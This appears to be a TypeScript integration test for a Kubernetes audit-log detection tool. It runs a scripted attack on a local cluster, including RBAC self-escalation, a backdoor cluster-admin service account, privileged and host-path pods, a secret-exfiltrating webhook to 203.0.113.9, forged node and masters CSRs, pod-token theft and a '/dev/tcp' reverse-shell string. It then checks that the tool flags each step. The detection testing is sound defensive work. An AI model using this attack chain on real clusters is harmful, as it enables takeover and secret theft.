/**
 * detect on a real cluster: a scripted attack, found afterwards in the log's files and through the node that holds them, and while it
 * happens; known from the audit IDs that the attackers' own clients received. Whoever works beside them is nowhere above info.
 */
import { type ChildProcess, execFileSync, spawn } from 'node:child_process';
import { mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { basename, join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { DetectAnswer, FindingRow } from '../../src/questions/detect/detect-row.ts';
import { programWords } from '../support/program.ts';
import { actsOn } from './support/acts.ts';
import { run as ask, logged } from './support/ask.ts';
import { type Act, openCluster, startCluster, whyNoNode } from './support/cluster.ts';
import { image, serverPod } from './support/control-plane.ts';
import { installPlugin, type Plugin } from './support/plugin.ts';

const reason = await whyNoNode();
if (reason !== null) process.stderr.write(`without a node, and so without shells in pods: ${reason}\n`);
const hasNode = reason === null;

const run = await mkdtemp(join(tmpdir(), 'detect-'));
const policies = await mkdtemp(join(tmpdir(), 'detect-policy-'));
/** The kubelet serves /var/log of this machine, and follows links. */
const served = `/var/log/${basename(run)}`;
const { cluster, logs, kubectl, until } = actsOn(run);

const ATTACKER = '127.0.41.1';
const POD = '127.0.41.2';
const ELSEWHERE = '127.0.41.3';

/** Rule → the audit IDs of requests that it is to be found by: some of them for what comes together. */
const deeds = new Map<string, Set<string>>();
let since = '';
let follower: Follower;

/** Whatever it ended with: what was done, or tried, is these rules'. */
function is(rules: string, { sent }: Act, method?: string): void {
  const ids = sent
    .filter((one) => method === undefined || one.method === method)
    .map(({ auditID }) => auditID);
  expect(ids.length, `${rules}: nothing was sent`).toBeGreaterThan(0);
  for (const rule of rules.split(' ')) deeds.set(rule, new Set([...(deeds.get(rule) ?? []), ...ids]));
}

/** As somebody who may be refused. */
const tries = (who: string, command: string, stdin?: string) =>
  cluster.kubectl(who, command.split(' '), stdin === undefined ? {} : { stdin });

function pod(name: string, spec: string): string {
  const container = `{name: main, image: "${image}", imagePullPolicy: Never, command: [sh, -c, 'sleep 100000']`;
  return `apiVersion: v1\nkind: Pod\nmetadata: {name: ${name}}\nspec: ${spec.replace('CONTAINER', container)}\n`;
}

async function stage(): Promise<void> {
  // A common policy, but that it holds who removes Events.
  const bodies = await readFile(new URL('./cluster/policy-bodies.yaml', import.meta.url), 'utf8');
  const events =
    '  - { level: Metadata, verbs: [delete, deletecollection], resources: [{ group: "", resources: [events] }] }\n';
  const policy = join(policies, 'policy.yaml');
  await writeFile(policy, bodies.replace('rules:\n', `rules:\n${events}`));
  await startCluster({
    run,
    servers: { 'cp-1': `/${policy.replace(/^\//, '')}` },
    parts: hasNode ? ['kcm', 'scheduler', 'containerd', 'kubelet'] : ['kcm'],
    images: ['localhost/pause:1', image],
  });
  await cluster.user('alice', { groups: ['platform'] });
  await cluster.user('dora', { groups: ['dev'] }, { from: '127.0.41.9' });
  for (const name of ['mallory', 'eve'])
    await cluster.user(name, { groups: ['contractors'] }, { from: ATTACKER });
  await cluster.user('nobody', 'anonymous', { from: ATTACKER });
  await kubectl('admin', 'create clusterrolebinding platform --clusterrole=cluster-admin --group=platform');
  for (const name of ['shop', 'calm', 'victim', 'n-1', 'n-2', 'n-3'])
    await kubectl('alice', `create namespace ${name}`);
  await kubectl('alice', '-n calm create rolebinding dora --clusterrole=admin --user=dora');
  await kubectl('alice', '-n shop create rolebinding eve --clusterrole=admin --user=eve');
  await kubectl('alice', 'create -f -', HELPERS);
  for (let n = 0; n < 12; n++)
    await kubectl('alice', `-n shop create secret generic s-${n} --from-literal=k=v`);
  for (const kind of ['configmap x', 'secret generic x', 'serviceaccount x'])
    await kubectl('alice', `-n victim create ${kind}`);
  await kubectl('alice', '-n shop create -f -', EVENT);
  if (!hasNode) return;
  await kubectl(
    'alice',
    '-n shop create -f -',
    pod('web', '{hostNetwork: true, terminationGracePeriodSeconds: 0, containers: [CONTAINER}]}'),
  );
  await kubectl(
    'alice',
    '-n calm create -f -',
    pod('web', '{hostNetwork: true, terminationGracePeriodSeconds: 0, containers: [CONTAINER}]}'),
  );
  for (const name of ['shop', 'calm'])
    await kubectl('alice', `-n ${name} wait --for=condition=Ready pod/web --timeout=60s`);
  await symlink(join(run, 'audit'), served);
  await kubectl('admin', 'label node node-1 node-role.kubernetes.io/control-plane=');
  await kubectl('admin', 'create -f -', serverPod('kube-apiserver-1', 'node-1', `${served}/cp-1`));
}

/** Too much for contractors: who may bind any role; eve may make and approve certificates. */
const HELPERS = `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: rbac-helper}
rules:
  - {apiGroups: [rbac.authorization.k8s.io], resources: [clusterrolebindings, rolebindings], verbs: [create, get]}
  - {apiGroups: [rbac.authorization.k8s.io], resources: [clusterroles], verbs: [bind]}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: rbac-helper}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: rbac-helper}
subjects: [{apiGroup: rbac.authorization.k8s.io, kind: User, name: mallory}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: csr-helper}
rules:
  - {apiGroups: [certificates.k8s.io], resources: [certificatesigningrequests], verbs: [create, get]}
  - {apiGroups: [certificates.k8s.io], resources: [certificatesigningrequests/approval], verbs: [update]}
  - {apiGroups: [certificates.k8s.io], resources: [signers], verbs: [approve]}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: csr-helper}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: csr-helper}
subjects: [{apiGroup: rbac.authorization.k8s.io, kind: User, name: eve}]
`;

const EVENT = `apiVersion: v1
kind: Event
metadata: {name: trace}
involvedObject: {kind: Pod, name: web, namespace: shop}
reason: Started
message: somebody was here
type: Normal
`;

const WEBHOOK = `apiVersion: admissionregistration.k8s.io/v1
kind: MutatingWebhookConfiguration
metadata: {name: listener}
webhooks:
  - name: listener.example.com
    clientConfig: {url: "https://203.0.113.9/take"}
    rules: [{apiGroups: [""], apiVersions: [v1], resources: [secrets], operations: [CREATE]}]
    failurePolicy: Ignore
    timeoutSeconds: 1
    sideEffects: None
    admissionReviewVersions: [v1]
`;

function signingRequest(name: string, subject: string): string {
  const words = [
    'req',
    '-new',
    '-newkey',
    'ec',
    '-pkeyopt',
    'ec_paramgen_curve:P-256',
    '-nodes',
    '-keyout',
    '/dev/null',
  ];
  const pem = execFileSync('openssl', [...words, '-subj', subject], { stdio: ['ignore', 'pipe', 'ignore'] });
  return `apiVersion: certificates.k8s.io/v1
kind: CertificateSigningRequest
metadata: {name: ${name}}
spec: {signerName: kubernetes.io/kube-apiserver-client, usages: [client auth], request: ${pem.toString('base64')}}
`;
}

async function attack(): Promise<void> {
  // Knocking.
  is('anonymous-wants-power', await cluster.curl('nobody', 'GET', '/api/v1/secrets'));
  // kubectl would stop at discovery.
  const asScheduler = ['-H', 'Impersonate-User: system:kube-scheduler'];
  is('superuser-impersonation-refused', await cluster.curl('eve', 'GET', '/api/v1/secrets', asScheduler));
  is('refused-then-read-secret', await tries('mallory', '-n shop get secrets'));
  // Rights: refused, then taken.
  is(
    'escalation-refused escalation-refused-then-done',
    await tries('eve', '-n shop create rolebinding super --clusterrole=cluster-admin --user=eve'),
    'POST',
  );
  is(
    'escalation-refused-then-done',
    await kubectl('eve', '-n shop create rolebinding friend --clusterrole=view --user=otto'),
    'POST',
  );
  is(
    'cluster-admin-bound-by-lesser self-granted self-granted-then-used',
    await kubectl('mallory', 'create clusterrolebinding mine --clusterrole=cluster-admin --user=mallory'),
    'POST',
  );
  // Secrets: one by one, and all.
  for (let n = 0; n < 12; n++)
    is(
      'secret-sweep self-granted-then-used refused-then-read-secret',
      await kubectl('mallory', `-n shop get secret s-${n}`),
    );
  is('secrets-listed-everywhere', await kubectl('mallory', 'get secrets -A'));
  // An account to come back by, and its token at two addresses.
  is(
    'fresh-account-made-cluster-admin',
    await kubectl('mallory', '-n kube-system create serviceaccount helper'),
    'POST',
  );
  is(
    'fresh-account-made-cluster-admin backdoor-account',
    await kubectl(
      'mallory',
      'create clusterrolebinding helper --clusterrole=cluster-admin --serviceaccount=kube-system:helper',
    ),
    'POST',
  );
  const taken = await kubectl('mallory', '-n kube-system create token helper');
  is('token-of-system-account backdoor-account system-account-token-used', taken, 'POST');
  await cluster.user('helper', { token: taken.stdout.trim() }, { from: ATTACKER });
  await cluster.user('helper-away', { token: taken.stdout.trim() }, { from: ELSEWHERE });
  is(
    'token-elsewhere system-account-token-used',
    await kubectl('helper', '-n shop delete secret s-11 --wait=false'),
    'DELETE',
  );
  is(
    'token-elsewhere system-account-token-used',
    await kubectl('helper-away', '-n shop delete secret s-10 --wait=false'),
    'DELETE',
  );
  // Ways out of the container. Nobody schedules them: what counts is that they may be made.
  const nowhere = 'schedulerName: nobody';
  const privileged = 'CONTAINER, securityContext: {privileged: true}}';
  is(
    'pod-that-is-the-node',
    await kubectl(
      'mallory',
      '-n shop create -f -',
      pod('a', `{${nowhere}, hostPID: true, containers: [${privileged}]}`),
    ),
    'POST',
  );
  is(
    'privileged-pod',
    await kubectl('mallory', '-n shop create -f -', pod('b', `{${nowhere}, containers: [${privileged}]}`)),
    'POST',
  );
  is(
    'sensitive-host-path',
    await kubectl(
      'mallory',
      '-n shop create -f -',
      pod('c', `{${nowhere}, volumes: [{name: root, hostPath: {path: /}}], containers: [CONTAINER}]}`),
    ),
    'POST',
  );
  is(
    'host-processes',
    await kubectl(
      'mallory',
      '-n shop create -f -',
      pod('d', `{${nowhere}, hostPID: true, containers: [CONTAINER}]}`),
    ),
    'POST',
  );
  // What sees all secrets that are made; and a certificate of another's.
  is(
    'webhook-by-person webhook-sends-out webhook-sees-secrets',
    await kubectl('mallory', 'create -f -', WEBHOOK),
    'POST',
  );
  await sleep(2000);
  is(
    'webhook-failed-open',
    await kubectl('alice', '-n shop create secret generic seen --from-literal=k=v'),
    'POST',
  );
  is('webhook-deleted', await kubectl('mallory', 'delete mutatingwebhookconfiguration listener'), 'DELETE');
  is(
    'csr-for-system-identity',
    await tries('eve', 'create -f -', signingRequest('masters', '/O=system:masters/CN=eve')),
    'POST',
  );
  is(
    'csr-for-system-identity csr-self-approved-by-lesser',
    await kubectl('eve', 'create -f -', signingRequest('node', '/O=system:nodes/CN=system:node:n9')),
    'POST',
  );
  is('csr-self-approved-by-lesser', await kubectl('eve', 'certificate approve node'), 'PUT');
  if (hasNode) await enter();
  // Traces, and ruin.
  is('events-deleted', await kubectl('mallory', '-n shop delete event trace'), 'DELETE');
  for (const kind of ['configmaps', 'secrets', 'serviceaccounts'])
    is(
      kind === 'secrets' ? 'namespace-wiped secrets-deleted-at-once' : 'namespace-wiped',
      await cluster.curl('helper', 'DELETE', `/api/v1/namespaces/victim/${kind}`),
    );
  for (const name of ['victim', 'n-1', 'n-2', 'n-3'])
    is('namespaces-deleted', await kubectl('mallory', `delete namespace ${name} --wait=false`), 'DELETE');
}

/** Into a pod by both protocols, and out of it with its token. */
async function enter(): Promise<void> {
  const exec = (words: readonly string[], websockets: boolean) =>
    cluster.kubectl('mallory', ['-n', 'shop', 'exec', 'web', '--', ...words], {
      env: { KUBECTL_REMOTE_COMMAND_WEBSOCKETS: String(websockets) },
    });
  const token = await exec(['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'], true);
  expect(token.code, token.stderr).toBe(0);
  await isExec('exec-reads-token', 'serviceaccount%2Ftoken', 'get');
  const shell = await exec(['sh', '-c', 'echo no shell: /dev/tcp/203.0.113.9/4444'], false);
  expect(shell.code, shell.stderr).toBe(0);
  await isExec('exec-reverse-shell', '203.0.113.9%2F4444', 'create');
  // The pod itself, and whoever carried its token away.
  await cluster.user('in-pod', { token: token.stdout.trim() }, { from: POD });
  await cluster.user('stolen', { token: token.stdout.trim() }, { from: ELSEWHERE });
  is('pod-token-elsewhere', await tries('in-pod', '-n shop get pods'));
  is('pod-token-elsewhere', await tries('stolen', '-n shop get secrets'));
}

/** kubectl does not say which ID a connection that it upgraded was given: what the log has with these words in its URL. */
async function isExec(rule: string, words: string, verb: string): Promise<void> {
  const log = () => readFile(join(cluster.audit('cp-1'), 'audit.log'), 'utf8');
  const text = await until(log, (one) => one.includes(words));
  const events = text
    .trimEnd()
    .split('\n')
    .filter((line) => line.includes(words))
    .map((line) => JSON.parse(line) as { auditID: string; verb: string });
  expect(new Set(events.map((event) => event.verb))).toEqual(new Set([verb]));
  deeds.set(rule, new Set(events.map(({ auditID }) => auditID)));
}

/** All day long, beside it. */
async function work(): Promise<void> {
  const workload = `{apiVersion: apps/v1, kind: Deployment, metadata: {name: web}, spec: {replicas: 1, selector: {matchLabels: {a: w}}, template: {metadata: {labels: {a: w}}, spec: {schedulerName: nobody, containers: [{name: main, image: none}]}}}}`;
  await kubectl('dora', '-n calm apply --server-side -f -', workload);
  await kubectl('dora', '-n calm scale deploy/web --replicas=0');
  await kubectl('dora', '-n calm create secret generic db --from-literal=k=v');
  await kubectl('dora', '-n calm get secret db');
  await kubectl('dora', '-n calm create serviceaccount runner');
  await kubectl('dora', '-n calm create rolebinding runner --clusterrole=edit --serviceaccount=calm:runner');
  await kubectl('dora', '-n calm create token runner');
  await tries('dora', 'get nodes');
  await tries('dora', '-n shop get secrets');
  await kubectl('dora', '-n calm delete deploy/web secret/db');
  if (hasNode) await kubectl('dora', '-n calm exec web -- id');
}

interface Follower {
  /** With the time at which each was printed. */
  readonly rows: readonly { readonly atMs: number; readonly row: FindingRow }[];
  end(): Promise<void>;
}

/** `detect --follow` over the files, from before the attack on. */
async function followed(): Promise<Follower> {
  const [program, ...words] = programWords();
  const args = ['detect', '--follow', '-f', logs, '--severity', 'low', '-o', 'jsonl'];
  const child: ChildProcess = spawn(program, [...words, ...args], {
    cwd: fileURLToPath(new URL('../../', import.meta.url)),
    env: { ...process.env, NO_COLOR: '1', KUBECONFIG: '/dev/null' },
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  const rows: { atMs: number; row: FindingRow }[] = [];
  let said = '';
  let rest = '';
  child.stdout?.setEncoding('utf8').on('data', (text: string) => {
    const lines = `${rest}${text}`.split('\n');
    rest = lines.pop() ?? '';
    for (const line of lines) {
      const row = JSON.parse(line) as FindingRow & { kind?: string };
      if (row.kind !== 'AnswerEnd') rows.push({ atMs: Date.now(), row });
    }
  });
  child.stderr?.setEncoding('utf8').on('data', (text: string) => (said += text));
  await until(
    async () => said,
    (text) => text.includes('following'),
  );
  expect(said).toContain('following');
  return {
    rows,
    async end() {
      const ended = new Promise((resolve) => child.once('close', resolve));
      child.kill('SIGINT');
      await ended;
    },
  };
}

beforeAll(async () => {
  await stage();
  since = new Date().toISOString();
  follower = await followed();
  await work();
  await attack();
  for (const ids of deeds.values()) for (const id of ids) await logged(id, logs);
});

afterAll(async () => {
  await follower?.end();
  await openCluster(run).stop();
  await rm(served, { force: true });
  for (const folder of [run, policies]) await rm(folder, { recursive: true, force: true });
});

const ATTACKERS = new Set([
  null,
  'mallory',
  'eve',
  'system:anonymous',
  'system:serviceaccount:kube-system:helper',
  'system:serviceaccount:shop:default',
]);

function holdsAll(rows: readonly FindingRow[]): void {
  for (const [rule, ids] of deeds) {
    const found = rows.filter((row) => row.rule === rule).flatMap(({ auditIDs }) => auditIDs);
    expect(found.length, `${rule} was not found`).toBeGreaterThan(0);
    expect(
      found.some((id) => ids.has(id)),
      `${rule} was found in other requests`,
    ).toBe(true);
  }
  // alice's secret is told of, for the webhook that could not be asked was not hers.
  const above = rows.filter(({ severity, rule }) => severity !== 'info' && rule !== 'webhook-failed-open');
  const others = above.filter(({ who }) => !ATTACKERS.has(who.user));
  expect(others.map(({ rule, who }) => `${rule}: ${who.user}`)).toEqual([]);
}

describe('a scripted attack', () => {
  it('is found in the files: every deed, and nobody else’s above info', async () => {
    const { stdout, stderr, status } = await ask([
      'detect',
      '-f',
      logs,
      '--since',
      since,
      '-o',
      'json',
      '--fail-on',
      'critical',
    ]);
    expect(stdout, stderr).not.toBe('');
    expect(status).toBe(4);
    const { rows } = JSON.parse(stdout) as DetectAnswer;
    holdsAll(rows);
    const gravest = new Set(rows.filter(({ severity }) => severity === 'critical').map(({ rule }) => rule));
    expect(gravest).toContain('backdoor-account');
    expect(gravest).toContain('pod-that-is-the-node');
    // dora's own work is there, as what it is.
    const hers = rows.filter(({ who }) => who.user === 'dora');
    expect(new Set(hers.map(({ severity }) => severity))).toEqual(new Set(['info']));
  });

  it('is told of while it happens, each deed within ten seconds of its event', async () => {
    for (const [rule, ids] of deeds) {
      const told = await until(
        async () => follower.rows.filter(({ row }) => row.rule === rule),
        (rows) => rows.some(({ row }) => row.auditIDs.some((id) => ids.has(id))),
      );
      const first = told.find(({ row }) => row.auditIDs.some((id) => ids.has(id)));
      expect(first, `${rule} was not told of`).toBeDefined();
      const lastMs = Date.parse(first?.row.last ?? '');
      expect((first?.atMs ?? 0) - lastMs, rule).toBeLessThan(10_000);
    }
    const others = follower.rows.filter(
      ({ row }) => row.rule !== 'webhook-failed-open' && !ATTACKERS.has(row.who.user),
    );
    expect(others.map(({ row }) => `${row.rule}: ${row.who.user}`)).toEqual([]);
  });

  it.skipIf(!hasNode)('is found through the node that holds the log', async () => {
    const plugin: Plugin = await installPlugin(run);
    const words = ['audit', 'detect', '--since', since, '-o', 'json', '--severity', 'low'];
    const { stdout, stderr, status } = await plugin.call(words, { kubeconfig: cluster.kubeconfig('alice') });
    expect(stdout, stderr).not.toBe('');
    expect([0, 3]).toContain(status);
    holdsAll((JSON.parse(stdout) as DetectAnswer).rows);
  });
});
